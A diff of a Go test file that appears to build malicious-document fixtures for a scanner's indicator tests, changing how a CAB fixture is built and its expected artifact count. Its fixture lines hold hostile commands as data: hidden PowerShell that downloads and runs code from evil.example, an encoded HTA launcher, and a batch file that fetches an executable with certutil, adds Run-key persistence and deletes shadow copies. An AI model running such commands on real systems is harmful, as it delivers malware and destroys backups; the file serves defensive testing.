@@ -79,7 +79,7 @@ sh.Run("cmd /c powershell -w hidden -nop -c calc");
 		"invoice.lnk": buildLNK(`C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`,
 			"-w hidden -nop -c IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')", `C:\Windows\System32\shell32.dll`),
 		"delivery.iso": buildISO([][2]string{{"README.TXT", "open invoice\r\n"}, {"INVOICE.JS", js}}),
-		"setup.cab":    buildCAB([]string{"setup.exe", "payload.dll"}),
+		"setup.cab":    buildCAB([][2]string{{"setup.exe", "MZ setup stub"}, {"payload.dll", "MZ payload stub"}}, true),
 		"update.hta":   []byte("<html><head><HTA:APPLICATION ID=\"u\" WINDOWSTATE=\"minimize\">\n<script language=\"VBScript\">\nSet sh = CreateObject(\"WScript.Shell\")\nsh.Run \"powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAKQA=\", 0\nself.close\n</script></head></html>\n"),
 		"loader.js":    []byte(js),
 		"run.bat":      []byte("@echo off\r\ncertutil.exe -urlcache -split -f http://evil.example/x.exe %TEMP%\\x.exe\r\nreg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d %TEMP%\\x.exe\r\nvssadmin delete shadows /all /quiet\r\n"),
@@ -170,7 +170,7 @@ func TestGoldenIndicators(t *testing.T) {
 		"delivery.iso": {"archive.disk_image_payload"},
 		"setup.cab":    {},
 	}
-	wantArtifacts := map[string]int{"dropper.pdf": 3, "dropper.zip": 3, "macro.docm": 2, "macro.doc": 2, "delivery.iso": 2, "setup.cab": 0, "update.hta": 1}
+	wantArtifacts := map[string]int{"dropper.pdf": 3, "dropper.zip": 3, "macro.docm": 2, "macro.doc": 2, "delivery.iso": 2, "setup.cab": 2, "update.hta": 1}
 	fx := fixtures(t)
 	for name, ids := range want {
 		t.Run(name, func(t *testing.T) {
